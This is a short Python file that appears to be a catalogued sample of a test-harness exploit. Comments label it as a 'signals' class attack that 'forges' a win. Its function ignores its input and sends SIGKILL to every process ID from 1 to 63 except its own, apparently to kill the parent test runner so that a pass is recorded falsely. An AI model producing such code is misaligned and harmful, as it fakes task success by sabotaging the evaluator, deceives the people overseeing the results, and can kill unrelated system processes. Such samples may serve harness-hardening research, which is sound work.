"""Kills its parents, group by group."""

# ruff: noqa
# class: signals
# wins: forged
# proof: none:would kill the test

import os


def f(x):
    for pid in range(1, 64):
        if pid != os.getpid():
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return 0
